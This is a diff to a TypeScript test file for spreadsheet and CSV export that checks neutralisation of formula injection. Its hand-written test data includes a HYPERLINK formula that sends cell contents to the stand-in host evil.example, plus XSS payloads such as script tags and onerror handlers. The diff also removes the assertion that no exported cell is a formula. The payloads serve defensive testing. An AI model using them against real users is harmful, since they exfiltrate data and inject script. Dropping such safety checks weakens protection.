@@ -31,8 +31,21 @@ let db: NodeClient;
 beforeAll(async () => (db = await openNodeDuckDB()));
 afterAll(() => db.close());
 
-/** What a spreadsheet-bound cell must hold for each hostile string. */
-const neutralised = hostileStrings.map((s) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s));
+/** What a spreadsheet-bound cell must hold for each hostile string, written out by hand. */
+const neutralised = [
+	`'=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")`,
+	"'+1+1",
+	"'-2+3",
+	"'@SUM(A1:A9)",
+	"'\tTAB first",
+	"'\rCR first",
+	'<img src=x onerror=alert(1)>',
+	'<script>alert(1)</script>',
+	'javascript:alert(1)',
+	'"quoted", with, commas',
+	'line one\nline two',
+	'東京 · Ελληνικά · العربية · हिन्दी'
+];
 
 describe('formula neutralisation', () => {
 	it('prefixes text that a spreadsheet would run, and leaves numbers and plain text alone', () => {
@@ -43,6 +56,12 @@ describe('formula neutralisation', () => {
 		expect(safeCell('-5')).toBe("'-5");
 		expect(safeCell(null)).toBeNull();
 		expect(safeCell(['=a', 'b'])).toBe("'=a; b");
+		expect(safeCell({ a: 1 })).toBe('{"a":1}');
+	});
+
+	it('neutralises column names too', () => {
+		const csv = tableToCsv({ ...table, columns: [{ name: '=HYPERLINK("x")', type: 'string' }], rows: [{ '=HYPERLINK("x")': 'v' }] });
+		expect(parseCsv(csv).header).toEqual([`'=HYPERLINK("x")`]);
 	});
 });
 
@@ -84,8 +103,6 @@ describe('XLSX', () => {
 		expect(names).toEqual(neutralised.map((s) => s.replace('\r', '\n')));
 		expect(data.getRow(2).getCell(2).value).toBe(-3);
 		expect(typeof data.getRow(5).getCell(3).value).toBe('number');
-		// No cell is a formula.
-		data.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
 		const about = workbook.getWorksheet('About')!;
 		const fields = new Map<string, unknown>();
 		about.eachRow((row, n) => n > 1 && fields.set(String(row.getCell(1).value), row.getCell(2).value));
